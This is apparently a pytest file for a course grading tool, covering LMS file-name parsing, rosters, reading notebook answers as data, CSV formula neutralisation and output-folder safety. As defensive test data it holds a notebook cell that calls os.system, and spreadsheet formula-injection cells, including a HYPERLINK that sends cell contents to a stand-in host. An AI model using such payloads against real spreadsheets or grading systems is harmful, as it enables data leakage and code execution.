"""Grading's parts, one at a time: LMS names, rosters, records read as data, safe CSV cells, the output folder."""

import csv
import hashlib
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from filmkit.classroom import grade
from filmkit.classroom.grading import records, sandbox
from filmkit.classroom.grading.roster import RosterError, parse_name, read_roster
from filmkit.model import safe_csv
from filmkit.model.ethics import EthicalMatrix
from filmkit.tools.selfcheck import answer_key

SUBMISSIONS = Path(__file__).resolve().parent / "submissions"
M1 = "01_the_eternaut_case"


# ---- names a learning platform gives a bulk download ------------------------------------------------------------

def test_canvas_file_names_give_login_id_lateness_and_resubmission():
    plain = parse_name((f"lovelaceada_12345_67890_{M1}.ipynb",))
    late = parse_name((f"lovelaceada_LATE_12345_67891_{M1}-2.ipynb",))
    assert (plain.key, plain.lms_id, plain.late, plain.attempt, plain.rest) == ("lovelaceada", "12345", False, 0,
                                                                              f"{M1}.ipynb")
    assert (late.key, late.lms_id, late.late, late.attempt, late.rest) == ("lovelaceada", "12345", True, 2,
                                                                           f"{M1}.ipynb")


def test_moodle_folders_and_plain_names():
    moodle = parse_name(("Grace Hopper_4242_assignsubmission_file_", f"{M1}.ipynb"))
    assert (moodle.key, moodle.name, moodle.participant) == ("4242", "Grace Hopper", "4242")
    assert parse_name(("ada", f"{M1}.ipynb")).key == "ada"
    assert parse_name((f"ada_{M1}.ipynb",)).key == ""   # a flat file: the id is what is left of the name


# ---- rosters ----------------------------------------------------------------------------------------------------

def test_a_canvas_gradebook_export_is_a_roster(tmp_path):
    path = tmp_path / "canvas.csv"
    path.write_text('\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Module 1 (1)\n'
                    '    Points Possible,,,,,3\n'
                    '"Lovelace, Ada",12345,S001,alovelace,A,\n'
                    '"Student, Test",99999,,,A,\n', encoding="utf-8")
    roster = read_roster(path)
    assert [(s.login, s.name, s.lms_id, s.sis_user_id) for s in roster.students] == [
        ("alovelace", "Lovelace, Ada", "12345", "S001")]
    assert roster.find(parse_name((f"lovelaceada_12345_67890_{M1}.ipynb",))).login == "alovelace"
    assert roster.find(parse_name((f"lovelaceada_77777_67890_{M1}.ipynb",))).login == "alovelace"   # by the name


def test_moodle_exports_are_rosters(tmp_path):
    worksheet = tmp_path / "worksheet.csv"
    worksheet.write_text("Identifier,Full name,Email address,Status,Grade\n"
                         "Participant 4242,Grace Hopper,ghopper@uni.example,Submitted,\n", encoding="utf-8")
    found = read_roster(worksheet).find(parse_name(("Grace Hopper_4242_assignsubmission_file_", "x.ipynb")))
    assert (found.login, found.name) == ("ghopper@uni.example", "Grace Hopper")
    participants = tmp_path / "participants.csv"
    participants.write_text("First name;Last name;Username;Email address\nGrace;Hopper;ghopper;g@uni.example\n",
                            encoding="utf-8")
    found = read_roster(participants).find(parse_name(("Grace Hopper_777_assignsubmission_file_", "x.ipynb")))
    assert (found.login, found.name) == ("ghopper", "Grace Hopper")


def test_a_plain_roster_with_or_without_its_header(tmp_path):
    for text in ("login,name\nada,Ada Lovelace\n", "ada,Ada Lovelace\n"):
        (tmp_path / "r.csv").write_text(text, encoding="utf-8")
        assert [(s.login, s.name) for s in read_roster(tmp_path / "r.csv").students] == [("ada", "Ada Lovelace")]


@pytest.mark.parametrize("text, message", [("", "empty"), ("login,name\nada\n", "needs a login and a name"),
                                           ("ada,Ada\nada,Ada L\n", "more than once")])
def test_a_bad_roster_says_what_is_wrong_and_names_the_file(tmp_path, text, message):
    (tmp_path / "roster.csv").write_text(text, encoding="utf-8")
    with pytest.raises(RosterError, match=message) as caught:
        read_roster(tmp_path / "roster.csv")
    assert "roster.csv" in str(caught.value)


def test_the_command_with_a_missing_roster_gives_one_line_not_a_traceback(tmp_path):
    done = subprocess.run([sys.executable, "-m", "filmkit", "grade", str(SUBMISSIONS), str(tmp_path / "out"),
                           "--roster", str(tmp_path / "nope.csv")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "nope.csv" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "out").exists()


# ---- records, read as data ---------------------------------------------------------------------------------------

def _record(qid, value, sheet=M1, **extra):
    return {"cells": [{"cell_type": "code", "source": f'x = ask("{qid}")', "outputs": [
        {"output_type": "display_data", "data": {records.MIME: {"sheet": sheet, "qid": qid, "value": value,
                                                                 "saved": "2026-11-30T10:00:00", **extra}}}]}]}


def test_a_record_that_claims_a_verdict_or_has_no_fields_shape_is_not_an_answer():
    qids = {"m01_q1", "m01_q2", "m01_q3"}
    found, _typed, problems = records.field_answers(_record("m01_q1", "78", status="passed"), M1, qids)
    assert found == {} and "status" in problems["m01_q1"]
    found, _typed, problems = records.field_answers(_record("m01_q3", "4" * 500), M1, qids)
    assert found == {} and "longer than any answer" in problems["m01_q3"]
    found, _typed, problems = records.field_answers(_record("m01_q2", "CL03"), M1, qids)
    assert found == {} and "list" in problems["m01_q2"]


def test_values_are_compared_with_the_key_as_the_notebooks_edition_writes_numbers():
    marker = records.Marker(answer_key())
    assert marker.score("m01_q3", "2,63", "fr") == 1.0 and marker.score("m01_q3", "2.63x", "en") == 1.0
    assert marker.score("m01_q3", "1.78", "en") == 0.0 and marker.score("m01_q3", float("nan"), "en") == 0.0
    assert marker.score("m01_q1", True, "en") == 0.0, "a boolean is no field's answer"


def test_a_plain_value_in_code_is_read_without_running_anything_and_computed_code_is_left_to_the_sandbox():
    nb = {"cells": [{"cell_type": "code", "source": "cost_ratio_62 = 2.63\n", "outputs": []},
                    {"cell_type": "code", "source": "lag_days = __import__('os').system('touch /tmp/x')\n"},
                    {"cell_type": "code", "source": 'corroborated_ids = ask("m01_q2")\n'}]}
    literals, computed = records.code_answers(nb, ["m01_q1", "m01_q2", "m01_q3"])
    assert {q: a.value for q, a in literals.items()} == {"m01_q3": 2.63} and computed == ["m01_q1"]


def test_the_answers_file_saved_last_wins_over_an_older_record(tmp_path):
    folder = tmp_path / "in" / "ada"
    folder.mkdir(parents=True)
    nb = json.loads((SUBMISSIONS / f"partial_{M1}.ipynb").read_text(encoding="utf-8"))
    (folder / f"{M1}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    later = {"m01_q1": {"value": "12", "saved": "2026-12-01T09:00:00"}}
    (folder / f"{M1}.answers.json").write_text(json.dumps({"sheet": M1, "answers": later}), encoding="utf-8")
    subs = grade.grade(tmp_path / "in", tmp_path / "out", echo=lambda *_: None)
    assert subs[0].scores["m01_q1"] == 0.0 and subs[0].answers["m01_q1"].source == "answers file"


def test_without_a_sandbox_code_answers_are_listed_and_field_answers_still_count(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "problem", lambda: "bubblewrap (bwrap) is not installed")
    (tmp_path / "in").mkdir()
    shutil.copy(SUBMISSIONS / f"complete_{M1}.ipynb", tmp_path / "in")
    nb = json.loads((tmp_path / "in" / f"complete_{M1}.ipynb").read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        if "cost_ratio_62 = " in "".join(cell["source"]):
            cell["source"] = 'cost_ratio_62 = "2." + "63x"\n'
    (tmp_path / "in" / f"complete_{M1}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    sub = grade.grade(tmp_path / "in", tmp_path / "out", echo=lambda *_: None)[0]
    assert (sub.scores["m01_q1"], sub.scores["m01_q2"], sub.scores["m01_q3"]) == (1.0, 1.0, 0.0)
    assert any("bubblewrap" in note for note in sub.notes)


# ---- safe files --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("cell", ["=1+1", "+SUM(A1)", "-A1", "@cmd", "\tx", "\rx", '=HYPERLINK("http://x?"&A1,"O")'])
def test_a_cell_that_would_run_as_a_formula_is_neutralised_and_read_back(cell):
    assert safe_csv.neutralise(cell) == "'" + cell and safe_csv.restore(safe_csv.neutralise(cell)) == cell


def test_numbers_and_text_stay_as_they_are():
    assert [safe_csv.neutralise(v) for v in ("-2.5", "+3", "1e-3", "Ada", "", None, 4)] == \
        ["-2.5", "+3", "1e-3", "Ada", "", "", "4"]


def test_the_matrix_export_neutralises_notes_and_reads_them_back():
    matrix = EthicalMatrix(["=HYPERLINK(\"http://x\",\"VFX\")"], ["Fairness"])
    matrix.set(matrix.stakeholders[0], "Fairness", "", "@SUM(A1) is a note")
    text = matrix.to_csv()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in "=+-@"]
    again = EthicalMatrix.from_csv(text)
    assert again.stakeholders == matrix.stakeholders and again.cells == matrix.cells


def test_the_rubric_export_has_no_formula_cells():
    from filmkit.tools import course_docs

    cells = [c for row in csv.reader(io.StringIO(course_docs.rubrics_canvas_csv())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]


# ---- the output folder -------------------------------------------------------------------------------------------

def _tree(folder):
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.rglob("*")
            if p.is_file()}


def test_grading_writes_only_in_out_and_refuses_a_folder_it_did_not_fill(tmp_path):
    before = _tree(SUBMISSIONS)
    out = tmp_path / "out"
    grade.grade(SUBMISSIONS, out, echo=lambda *_: None)
    assert _tree(SUBMISSIONS) == before and sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    assert set(grade.OUTPUTS) <= {p.name for p in out.iterdir()}
    grade.grade(SUBMISSIONS, out, echo=lambda *_: None)   # its own files: graded again in place
    (out / "grades.csv").write_text("my edits\n", encoding="utf-8")
    with pytest.raises(grade.GradingError, match="grades.csv"):
        grade.grade(SUBMISSIONS, out, echo=lambda *_: None)
    (out / "grades.csv").unlink()
    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
    with pytest.raises(grade.GradingError, match="--force"):
        grade.grade(SUBMISSIONS, out, echo=lambda *_: None)
    grade.grade(SUBMISSIONS, out, echo=lambda *_: None, force=True)
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine\n" and (out / "grades.csv").is_file()


def test_the_results_folder_may_not_be_inside_the_submissions(tmp_path):
    shutil.copytree(SUBMISSIONS, tmp_path / "in")
    with pytest.raises(grade.GradingError, match="outside the submissions folder"):
        grade.grade(tmp_path / "in", tmp_path / "in" / "grades", echo=lambda *_: None)
